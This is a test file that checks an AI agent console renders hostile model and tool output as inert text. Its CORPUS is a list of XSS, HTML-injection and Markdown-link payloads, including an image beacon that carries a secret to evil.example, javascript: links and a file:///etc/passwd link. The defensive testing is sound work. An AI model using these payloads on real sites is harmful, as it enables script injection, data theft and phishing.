// What models, tools and people write is hostile: nothing of it is run, loads anything, or looks like a part of the console.
import { expect, test } from "@jest/globals";
import { ended, openConsole, say } from "../support/console-user.ts";
import { useConsole } from "../support/use-console.ts";

const EVIL = "http://evil.example";
const RUN = "globalThis.wasRun=1";
const CORPUS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${EVIL}/a.png">`,
  `![pixel](${EVIL}/pixel.gif?secret=1)`,
  `![](//evil.example/b.png)`,
  `![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imdsb2JhbFRoaXMud2FzUnVuPTEiLz4=)`,
  `[click](javascript:${RUN})`,
  `[click](JaVaScRiPt:${RUN})`,
  `[click](&#106;avascript:${RUN})`,
  `[click](data:text/html,<script>${RUN}</script>)`,
  `[click](vbscript:x) [file](file:///etc/passwd) [blob](blob:http://x/y)`,
  "[into the console](#/settings) [path](/api/v1/users/me)",
  "[google.com](http://evil.example/login)",
  `[user](http://google.com@evil.example/)`,
  `<a href="${EVIL}" target="_self" rel="opener" onclick="${RUN}">x</a>`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<iframe src="${EVIL}"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="${EVIL}"></object><embed src="${EVIL}">`,
  `<form action="${EVIL}"><input name=q value=1><button>Approve</button></form>`,
  `<style>body{display:none}@import "${EVIL}/x.css";</style>`,
  `<link rel=stylesheet href="${EVIL}/x.css"><link rel=prefetch href="${EVIL}/p">`,
  `<base href="${EVIL}/"><meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<div style="position:fixed;inset:0;background:url(${EVIL}/bg)">over everything</div>`,
  `<p id="content" name="app" class="approval error call">clobbered</p>`,
  `<video src="${EVIL}/v" autoplay poster="${EVIL}/p"></video><audio src="${EVIL}/a" autoplay></audio>`,
  `<picture><source srcset="${EVIL}/s"><img srcset="${EVIL}/t 2x" src="${EVIL}/u"></picture>`,
  `<input autofocus onfocus="${RUN}"><details open ontoggle="${RUN}"><summary>s</summary></details>`,
  `<body onload="${RUN}"><marquee onstart="${RUN}">x</marquee>`,
  `<template><img src=x onerror="${RUN}"></template><noscript><img src="${EVIL}/n"></noscript>`,
  `<dialog open>Your password, please</dialog><portal src="${EVIL}"></portal>`,
  "```html\n<script>globalThis.wasRun=1</script>\n```",
  `\`\`\`"><img src=x onerror=${RUN}>\ncode\n\`\`\``,
  `| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |\n|-|-|\n| <script>${RUN}</script> | ![i](${EVIL}/t) |`,
  `$<img src=x onerror=${RUN}>$ and $$<script>${RUN}</script>$$`,
  `[ref]\n\n[ref]: javascript:${RUN} "title"`,
  `<http://evil.example/?q="onmouseover="${RUN}>`,
  `\u202Etxt.exe <b>\u0000bold</b>`,
  "<a".repeat(2_000),
  "[".repeat(3_000),
  "> ".repeat(500),
];

const tested = useConsole();

test("a corpus of hostile Markdown leaves no request, no script, no report of the policy, and every link says where it leads", async () => {
  const { page, problems, requests } = await openConsole(tested.browser, tested.stack.server.url);
  tested.stack.fake.script([{ text: CORPUS.flatMap((one) => [one.slice(0, 7), one.slice(7), "\n\n"]) }]);
  await say(page, `<img src=x onerror=${RUN}> <script>${RUN}</script>`);
  await ended(page).waitFor();
  const asked = requests.length;
  // Whatever reacts to being looked at or touched.
  for (const link of await page.locator(".markdown a").all()) await link.hover({ force: true });
  expect(await page.evaluate("globalThis.wasRun")).toBeUndefined();
  expect(problems).toEqual([]);
  expect(
    requests.filter((url) => !url.startsWith(tested.stack.server.url) && !url.startsWith("data:")),
  ).toEqual([]);
  // The page itself may still read what is stored of the run.
  const later = requests.slice(asked).filter((url) => !url.startsWith(`${tested.stack.server.url}/api/v1/`));
  expect(later).toEqual([]);
  const found = (await page.evaluate(`({
    tags: [...new Set([...document.querySelectorAll(".markdown *")].map((one) => one.localName))].toSorted(),
    attributes: [...new Set([...document.querySelectorAll(".markdown *")].flatMap((one) => one.getAttributeNames()))].toSorted(),
    classes: [...new Set([...document.querySelectorAll(".markdown > div *")].flatMap((one) => [...one.classList]))].toSorted(),
    links: [...document.querySelectorAll(".markdown a")].map((one) => [one.getAttribute("href"), one.rel, one.target, one.textContent]),
  })`)) as {
    tags: string[];
    attributes: string[];
    classes: string[];
    links: [string | null, string, string, string][];
  };
  for (const tag of [
    "script",
    "style",
    "iframe",
    "form",
    "input",
    "svg",
    "object",
    "link",
    "meta",
    "video",
    "img",
  ])
    expect(found.tags).not.toContain(tag);
  for (const name of ["style", "id", "name", "srcset", "src"]) expect(found.attributes).not.toContain(name);
  expect(found.attributes.filter((name) => name.startsWith("on"))).toEqual([]);
  for (const name of ["approval", "call", "error"]) expect(found.classes).not.toContain(name);
  for (const [href, rel, target, text] of found.links) {
    if (href === null) continue;
    expect(href).toMatch(/^(https?:\/\/(evil|example)|mailto:)/);
    expect([rel, target]).toEqual(["noopener noreferrer", "_blank"]);
    expect(text).toContain(new URL(href).host);
  }
  // The same once more, read from what is stored.
  await page.evaluate("location.hash = '#/approvals'");
  await page.locator(".empty").waitFor();
  await page.goBack();
  await ended(page).waitFor();
  expect(await page.evaluate("globalThis.wasRun")).toBeUndefined();
  expect(problems).toEqual([]);
});

test("names of tools, arguments, titles and results are text", async () => {
  const { page, problems } = await openConsole(tested.browser, tested.stack.server.url);
  const html = `<img src=x onerror=${RUN}>`;
  tested.stack.fake.script([
    {
      toolCalls: [
        { name: "read_file", arguments: { path: html, [html]: html } },
        { name: "list_directory", arguments: { path: `/${html}` } },
      ],
    },
    { text: "over" },
  ]);
  await say(page, `${html} title`);
  await ended(page).waitFor();
  for (const head of await page.locator("button.call-head").all()) await head.click();
  await page.locator(".call-body").first().waitFor();
  expect(await page.locator(".call img, .session-entry img, .said img, .head img").count()).toBe(0);
  expect(await page.evaluate("globalThis.wasRun")).toBeUndefined();
  expect(problems).toEqual([]);
});
